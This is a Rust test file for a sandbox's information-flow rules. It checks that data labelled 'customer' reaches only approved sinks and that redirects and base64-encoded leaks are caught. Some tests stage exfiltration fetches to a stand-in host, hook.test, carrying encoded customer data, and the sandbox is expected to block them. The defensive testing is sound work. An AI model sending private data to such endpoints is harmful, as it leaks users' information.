//! The flow rules alone: the lattice's laws, the caps check of `[flow]`,
//! and the gate's decisions for plan ops, with a network backend of the
//! test's own that counts what it was sent (real servers are the
//! end-to-end tests').

use super::{FlowPolicy, Mark, Readers, Sink};
use crate::capability::net::{FetchLimits, FetchRequest, FetchResponse, Net, NetError};
use crate::caps::Capabilities;
use crate::gate::Sandbox;
use crate::net::StaticResolver;
use crate::services::Services;
use crate::violation::Violation;
use crate::{Op, SandboxResult};
use std::collections::BTreeSet;
use std::net::SocketAddr;
use std::sync::{Arc, Mutex};

fn only(sinks: &[&str]) -> Readers {
    Readers::Only(sinks.iter().map(|s| Sink::parse(s)).collect())
}

#[test]
fn join_is_commutative_associative_idempotent_and_never_widens() {
    let all = [
        Readers::All,
        only(&[]),
        only(&["stdout"]),
        only(&["stdout", "/out"]),
        only(&["/out", "https://a.example", "tool:t"]),
    ];
    for a in &all {
        assert_eq!(a.join(a), *a);
        for b in &all {
            assert_eq!(a.join(b), b.join(a));
            for c in &all {
                assert_eq!(a.join(&b.join(c)), a.join(b).join(c));
            }
            for s in ["stdout", "/out", "kv", "tool:t", "https://a.example"] {
                let s = Sink::parse(s);
                assert!(!a.join(b).admits(&s) || a.admits(&s), "{a:?} {b:?} {s:?}");
            }
        }
    }
}

#[test]
fn sinks_parse_by_form() {
    assert_eq!(Sink::parse("stdout"), Sink::Stdout);
    assert_eq!(Sink::parse("kv"), Sink::Kv);
    assert_eq!(Sink::parse("/w/out"), Sink::Mount("/w/out".into()));
    assert_eq!(Sink::parse("tool:x"), Sink::Tool("x".into()));
    assert_eq!(
        Sink::parse("https://crm.internal"),
        Sink::Egress("https://crm.internal".into())
    );
    for s in ["stdout", "kv", "/w/out", "tool:x", "https://crm.internal"] {
        assert_eq!(Sink::parse(s).to_string(), s);
    }
}

/// Folders: `data` (labelled `customer`), `public`, `out` (where the
/// label may go), `other` (where it may not).
struct World {
    _root: tempfile::TempDir,
    out: std::path::PathBuf,
    other: std::path::PathBuf,
    caps: Capabilities,
}

fn world(extra: impl FnOnce(crate::CapabilitiesBuilder) -> crate::CapabilitiesBuilder) -> World {
    let root = tempfile::tempdir().unwrap();
    for d in ["data", "public", "out", "other"] {
        std::fs::create_dir(root.path().join(d)).unwrap();
    }
    std::fs::write(root.path().join("data/c.csv"), "alice,42").unwrap();
    std::fs::write(root.path().join("public/p.txt"), "hello").unwrap();
    let b = Capabilities::builder()
        .read_mount(root.path().join("data"), "/data")
        .read_mount(root.path().join("public"), "/public")
        .write_mount(root.path().join("out"), "/out")
        .write_mount(root.path().join("other"), "/other")
        .allow_egress("http://crm.test")
        .allow_egress("http://hook.test")
        .label("/data", "customer")
        .flow("customer", ["stdout", "/out", "http://crm.test"]);
    World {
        out: root.path().join("out"),
        other: root.path().join("other"),
        caps: extra(b).build().unwrap(),
        _root: root,
    }
}

/// Every request sent, by URL, each answered with `status` (and, for a
/// redirect, `location`).
#[derive(Default)]
struct Sent {
    urls: Mutex<Vec<String>>,
    status: u16,
    location: Option<String>,
}

impl Net for Arc<Sent> {
    fn fetch(
        &self,
        req: &FetchRequest,
        _: SocketAddr,
        _: FetchLimits,
    ) -> Result<FetchResponse, NetError> {
        self.urls.lock().unwrap().push(req.url.clone());
        let headers = self
            .location
            .iter()
            .map(|l| ("location".into(), l.clone()))
            .collect();
        Ok(FetchResponse {
            status: if self.status == 0 { 200 } else { self.status },
            headers,
            body: b"ok".to_vec(),
        })
    }
}

fn sandbox(caps: &Capabilities, mark: Mark) -> (Sandbox, Arc<Sent>) {
    let sent = Arc::new(Sent::default());
    let resolver = StaticResolver::new()
        .with("crm.test", ["93.184.216.34".parse().unwrap()])
        .with("hook.test", ["93.184.216.35".parse().unwrap()]);
    let services = Services::default()
        .net(Arc::new(sent.clone()))
        .resolver(Arc::new(resolver));
    let sb = Sandbox::builder(caps.clone())
        .services(services)
        .labels(mark)
        .build()
        .unwrap();
    (sb, sent)
}

fn flow_denied(r: &SandboxResult) -> String {
    assert_eq!(r.violation(), Some(Violation::FlowDenied), "{r:?}");
    assert!(!r.hard());
    r.denial.as_ref().unwrap().message.clone()
}

#[test]
fn a_public_read_leaves_every_sink_open() {
    let w = world(|b| b);
    let (mut sb, sent) = sandbox(&w.caps, Mark::default());
    assert!(sb.run(Op::read("/public/p.txt")).ok);
    assert!(sb.run(Op::fetch("http://hook.test/x")).ok);
    assert!(sb.run(Op::write("/other/a.txt", "hello")).ok);
    assert_eq!(sent.urls.lock().unwrap().len(), 1);
    assert!(sb.labels().is_empty());
}

#[test]
fn after_a_labelled_read_only_the_labels_sinks_receive_anything() {
    let w = world(|b| b);
    let (mut sb, sent) = sandbox(&w.caps, Mark::default());
    assert!(sb.run(Op::read("/data/c.csv")).ok);
    let why = flow_denied(&sb.run(Op::fetch("http://hook.test/?d=YWxpY2U")));
    assert!(why.contains("label customer"), "{why}");
    assert!(why.contains("fs_read /data/c.csv at op 1"), "{why}");
    assert!(why.contains("not http://hook.test"), "{why}");
    assert!(sent.urls.lock().unwrap().is_empty(), "nothing left");
    flow_denied(&sb.run(Op::write("/other/a.txt", "alice")));
    assert!(!w.other.join("a.txt").exists());
    // The allowed neighbours: the sinks the rule names.
    assert!(sb.run(Op::fetch("http://crm.test/upsert")).ok);
    assert!(sb.run(Op::write("/out/a.txt", "alice")).ok);
    assert_eq!(std::fs::read(w.out.join("a.txt")).unwrap(), b"alice");
    assert_eq!(sent.urls.lock().unwrap().len(), 1);
    let report = sb.report();
    assert_eq!(report.labels.labels().collect::<Vec<_>>(), ["customer"]);
    assert_eq!(report.denials.len(), 2);
}

#[test]
fn a_carried_mark_refuses_as_if_the_run_had_read_it() {
    let w = world(|b| b);
    let mut mark = Mark::default();
    mark.join("customer", "a previous call");
    let (mut sb, sent) = sandbox(&w.caps, mark);
    let why = flow_denied(&sb.run(Op::fetch("http://hook.test/")));
    assert!(why.contains("a previous call"), "{why}");
    assert!(sent.urls.lock().unwrap().is_empty());
}

#[test]
fn a_label_that_may_not_reach_stdout_is_not_returned_to_a_plans_caller() {
    let w = world(|b| {
        b.label("http://hook.test", "vendor")
            .flow("vendor", ["/out"])
    });
    let (mut sb, sent) = sandbox(&w.caps, Mark::default());
    let why = flow_denied(&sb.run(Op::fetch("http://hook.test/")));
    assert!(why.contains("not stdout"), "{why}");
    assert!(sent.urls.lock().unwrap().is_empty());
    assert!(sb.labels().is_empty(), "nothing was brought in");
}

#[test]
fn a_redirect_to_a_sink_the_mark_refuses_is_not_followed() {
    let root = tempfile::tempdir().unwrap();
    std::fs::write(root.path().join("c.csv"), "alice").unwrap();
    let caps = Capabilities::builder()
        .read_mount(root.path(), "/data")
        .allow_egress("http://crm.test")
        .allow_egress("http://hook.test")
        .max_redirects(3)
        .label("/data", "customer")
        .flow("customer", ["stdout", "http://crm.test"])
        .build()
        .unwrap();
    let net = Arc::new(Sent {
        status: 302,
        location: Some("http://hook.test/x".into()),
        ..Sent::default()
    });
    let resolver = StaticResolver::new()
        .with("crm.test", ["93.184.216.34".parse().unwrap()])
        .with("hook.test", ["93.184.216.35".parse().unwrap()]);
    let mut sb = Sandbox::builder(caps)
        .services(
            Services::default()
                .net(Arc::new(net.clone()))
                .resolver(Arc::new(resolver)),
        )
        .build()
        .unwrap();
    assert!(sb.run(Op::read("/data/c.csv")).ok);
    let why = flow_denied(&sb.run(Op::fetch("http://crm.test/a")));
    assert!(why.starts_with("redirect 1 to http://hook.test/x"), "{why}");
    assert_eq!(*net.urls.lock().unwrap(), ["http://crm.test/a"]);
}

#[test]
fn the_caps_check_refuses_labels_without_rules_and_sinks_the_grant_lacks() {
    let root = tempfile::tempdir().unwrap();
    let base = || {
        Capabilities::builder()
            .read_mount(root.path(), "/data")
            .allow_egress("https://crm.internal")
    };
    let err = |b: crate::CapabilitiesBuilder| b.build().unwrap_err().to_string();
    let e = err(base().label("/data", "customer"));
    assert!(e.contains("no rule in [flow.allow]"), "{e}");
    let e = err(base().label("/data", "c").flow("c", ["https://crm.other"]));
    assert!(e.contains("names nothing the grant holds"), "{e}");
    let e = err(base().label("/data", "c").flow("c", ["/data"]));
    assert!(e.contains("read-only mount"), "{e}");
    let e = err(base().label("/nowhere", "c").flow("c", ["stdout"]));
    assert!(e.contains("names nothing"), "{e}");
    let e = err(base()
        .label("/data", "Bad Label")
        .flow("Bad Label", ["stdout"]));
    assert!(e.contains("a-z 0-9"), "{e}");
    let e = err(base().flow("secret:NOPE", ["stdout"]));
    assert!(e.contains("no secret is named"), "{e}");
    let e = err(base().label("tool:t", "c").flow("c", ["stdout"]));
    assert!(e.contains("names nothing"), "{e}");
    // The allowed neighbour, and the grant without [flow] tracks nothing.
    let ok = base()
        .label("/data", "c")
        .label("https://crm.internal", "c")
        .flow("c", ["stdout", "https://crm.internal"])
        .build()
        .unwrap();
    assert_eq!(ok.flow().allowed()["c"].len(), 2);
    assert!(base().build().unwrap().flow().is_empty());
}

#[test]
fn the_caps_file_form_loads_and_renders_to_the_same_grant() {
    let root = tempfile::tempdir().unwrap();
    for d in ["data", "out"] {
        std::fs::create_dir(root.path().join(d)).unwrap();
    }
    let text = r#"
[fs]
read = [{ host = "data", guest = "/data", label = "customer" }]
write = [{ host = "out", guest = "/out" }]
[net]
allow = ["https://crm.internal"]
[flow.allow]
customer = ["stdout", "/out"]
crm = []
[flow.label]
"https://crm.internal" = "crm"
"#;
    let caps = Capabilities::from_toml(text, root.path(), None).unwrap();
    let p: &FlowPolicy = caps.flow();
    assert_eq!(p.readers("crm"), Readers::Only(BTreeSet::new()));
    assert!(p.readers("customer").admits(&Sink::Mount("/out".into())));
    let again = Capabilities::from_toml(&caps.to_toml(), root.path(), None).unwrap();
    assert_eq!(again.flow(), caps.flow());
    let typo = text.replace("[flow.label]", "[flow.labels]");
    assert!(Capabilities::from_toml(&typo, root.path(), None).is_err());
}

#[test]
fn evidence_notes_labelled_bytes_in_a_send_and_decides_nothing() {
    let w = world(|b| b.flow_evidence());
    let (mut sb, sent) = sandbox(&w.caps, Mark::default());
    assert!(sb.run(Op::read("/public/p.txt")).ok);
    assert!(sb.run(Op::read("/data/c.csv")).ok);
    use base64::Engine;
    let b64 = base64::engine::general_purpose::STANDARD.encode("alice,42");
    assert!(sb.run(Op::fetch(format!("http://crm.test/?d={b64}"))).ok);
    assert!(sb.run(Op::fetch("http://crm.test/?d=unrelated-text")).ok);
    flow_denied(&sb.run(Op::fetch(format!("http://hook.test/?d={b64}"))));
    let evidence: Vec<Option<&str>> = sb.audit().iter().map(|e| e.evidence.as_deref()).collect();
    assert_eq!(
        evidence,
        [
            None,
            None,
            Some("customer (base64)"),
            None,
            Some("customer (base64)")
        ]
    );
    assert_eq!(sent.urls.lock().unwrap().len(), 2);
    // Without `evidence`, nothing is fingerprinted.
    let w = world(|b| b);
    let (mut sb, _) = sandbox(&w.caps, Mark::default());
    assert!(sb.run(Op::read("/data/c.csv")).ok);
    assert!(sb.run(Op::fetch(format!("http://crm.test/?d={b64}"))).ok);
    assert!(sb.audit().iter().all(|e| e.evidence.is_none()));
}

#[test]
fn a_stream_refused_ten_thousand_times_is_recorded_once() {
    let w = world(|b| b);
    let mut mark = Mark::default();
    mark.join("customer", "a test");
    let state = super::FlowState::new(w.caps.flow().clone(), mark);
    let hook = Sink::Egress("http://hook.test".into());
    for _ in 0..10_000 {
        assert!(state.stream_write(&hook, "stdout", "stdout").is_err());
        assert!(state.stream_write(&hook, "stderr", "stderr").is_err());
    }
    // The allowed neighbour costs nothing and records nothing.
    assert!(
        state
            .stream_write(&Sink::Stdout, "stdout", "stdout")
            .is_ok()
    );
    let pending = state.take_pending();
    let kinds: Vec<&str> = pending.iter().map(|r| r.kind).collect();
    assert_eq!(kinds, ["stdout", "stderr"], "one record per stream");
    assert!(state.take_pending().is_empty());
}
